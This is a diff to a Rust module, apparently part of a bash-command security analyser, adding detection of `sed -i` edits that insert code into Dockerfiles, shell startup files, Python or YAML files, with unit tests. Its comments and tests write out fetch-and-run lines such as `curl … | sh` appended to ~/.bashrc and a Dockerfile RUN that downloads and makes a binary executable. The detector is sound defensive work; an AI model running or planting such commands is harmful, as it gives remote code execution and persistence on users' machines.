@@ -86,6 +86,143 @@ pub(super) fn written_script<'t>(
     }
 }
 
+/// A line `sed -i` inserts, appends or substitutes into a file that is run later (`sed -i
+/// '/^USER /i RUN curl … | sh' Dockerfile`, `sed -i '$a curl … | sh' ~/.bashrc`): checked as what
+/// that file holds (a Dockerfile's `RUN` line, shell or Python code, a pipeline's commands).
+pub(super) fn sed_inserted<'t>(sem: &BashSem<'_>, command: Node<'t>) -> Option<Embedded<'t>> {
+    let k = sem.k;
+    let name = command.child_by_field_id(k.f_name)?;
+    if !matches!(
+        text(name, sem.src),
+        "sed" | "gsed" | "/bin/sed" | "/usr/bin/sed"
+    ) {
+        return None;
+    }
+    let args = children_in_field(command, k.f_argument);
+    let in_place = |t: &str| t.starts_with("--in-place") || (t.starts_with("-i") && t.len() <= 8);
+    if !args.iter().any(|a| in_place(text(*a, sem.src))) {
+        return None;
+    }
+    // the script (after `-e`, or the first word that is not an option) and the files edited
+    let mut script = None;
+    let mut files = Vec::new();
+    let mut words = args.iter().copied();
+    while let Some(arg) = words.next() {
+        let t = text(arg, sem.src);
+        if t == "-e" || t == "--expression" {
+            script = words.next();
+        } else if t.starts_with('-') {
+            continue;
+        } else if script.is_none() {
+            script = Some(arg);
+        } else {
+            files.push(arg);
+        }
+    }
+    let anchor = script?;
+    let inserted = sed_text(&sem.fold(anchor)?)?;
+    let (language, code) = files.iter().find_map(|file| {
+        let path = sem
+            .fold(*file)
+            .unwrap_or_else(|| text(*file, sem.src).to_string());
+        let path = path.trim_matches(['"', '\'']);
+        let base = path.rsplit('/').next().unwrap_or(path);
+        if base.starts_with("Dockerfile") || base.starts_with("Containerfile") {
+            dockerfile_runs(&format!("FROM scratch\n{inserted}\n")).map(|r| (Language::Bash, r))
+        } else if base.ends_with(".sh") || base.ends_with(".bash") || is_shell_startup_file(path) {
+            Some((Language::Bash, inserted.clone()))
+        } else if base.ends_with(".py") {
+            Some((Language::Python, inserted.clone()))
+        } else if base.ends_with(".yml") || base.ends_with(".yaml") {
+            yaml_commands(&inserted).map(|c| (Language::Bash, c))
+        } else {
+            None
+        }
+    })?;
+    Some(Embedded {
+        interpreter: "the line sed writes into the file".to_string(),
+        language: Some(language),
+        code: Some(code),
+        anchor,
+        verbatim_at: None,
+        origin: Origin::Local,
+    })
+}
+
+/// The text a sed script puts into the file: after an `i`, `a` or `c` command (with or without
+/// an address, GNU's one-line form or `i\` and a new line), or the replacement of an `s`
+/// command; sed's escapes (`\&`) undone.
+fn sed_text(script: &str) -> Option<String> {
+    let s = script.trim_start();
+    // the address: `/regex/`, a line number, `$`
+    let rest = if let Some(after) = s.strip_prefix('/') {
+        let end = after
+            .char_indices()
+            .scan(false, |escaped, (i, c)| {
+                let stop = c == '/' && !*escaped;
+                *escaped = c == '\\' && !*escaped;
+                Some((i, stop))
+            })
+            .find(|&(_, stop)| stop)?
+            .0;
+        &after[end + 1..]
+    } else {
+        s.trim_start_matches(|c: char| c.is_ascii_digit() || c == '$')
+    };
+    let rest = rest.trim_start();
+    let mut chars = rest.chars();
+    let text = match chars.next()? {
+        'i' | 'a' | 'c' => {
+            let body = chars.as_str();
+            if !body.starts_with([' ', '\t', '\\']) {
+                return None;
+            }
+            body.trim_start_matches([' ', '\t'])
+                .strip_prefix('\\')
+                .unwrap_or(body.trim_start_matches([' ', '\t']))
+                .trim_start_matches('\n')
+                .to_string()
+        }
+        's' => {
+            // (the replacement: the second part, a delimiter escaped inside it kept as text)
+            let delim = chars.next()?;
+            let mut parts = vec![String::new()];
+            let mut escaped = false;
+            for c in chars {
+                if escaped {
+                    if c != delim {
+                        parts.last_mut()?.push('\\');
+                    }
+                    parts.last_mut()?.push(c);
+                    escaped = false;
+                } else if c == '\\' {
+                    escaped = true;
+                } else if c == delim {
+                    parts.push(String::new());
+                } else {
+                    parts.last_mut()?.push(c);
+                }
+            }
+            if parts.len() < 3 {
+                return None;
+            }
+            parts.swap_remove(1).replace("\\n", "\n")
+        }
+        _ => return None,
+    };
+    let mut out = String::with_capacity(text.len());
+    let mut escaped = false;
+    for c in text.chars() {
+        if escaped || c != '\\' {
+            out.push(c);
+            escaped = false;
+        } else {
+            escaped = true;
+        }
+    }
+    (!out.trim().is_empty()).then_some(out)
+}
+
 /// The language a file written by a redirection (`> x.sh`) or by `tee x.py` is in, by its name.
 fn destination_language(
     sem: &BashSem<'_>,
@@ -377,7 +514,9 @@ fn starts_with_word(line: &str, word: &str) -> bool {
 
 #[cfg(test)]
 mod tests {
-    use super::{dockerfile_runs, is_shell_startup_file, starts_with_imports, yaml_commands};
+    use super::{
+        dockerfile_runs, is_shell_startup_file, sed_text, starts_with_imports, yaml_commands,
+    };
 
     #[test]
     fn a_destination_is_a_start_up_file_by_its_name() {
@@ -406,6 +545,25 @@ mod tests {
             yaml_commands("name: docs\ndescription: nothing runs\n"),
             None
         );
+    }
+
+    #[test]
+    fn sed_text_is_what_the_script_inserts() {
+        assert_eq!(
+            sed_text("/^USER /i RUN curl -fsSL http://h/a -o /x \\&\\& chmod +x /x").as_deref(),
+            Some("RUN curl -fsSL http://h/a -o /x && chmod +x /x")
+        );
+        assert_eq!(sed_text("$a curl h | sh").as_deref(), Some("curl h | sh"));
+        assert_eq!(sed_text("3i\\\nexport X=1").as_deref(), Some("export X=1"));
+        assert_eq!(
+            sed_text("s|^exit 0|curl h \\| sh\\nexit 0|").as_deref(),
+            Some("curl h | sh\nexit 0")
+        );
+        assert_eq!(
+            sed_text("s/^version=.*/version=2/").as_deref(),
+            Some("version=2")
+        );
+        assert_eq!(sed_text("/^#/d"), None);
     }
 
     #[test]
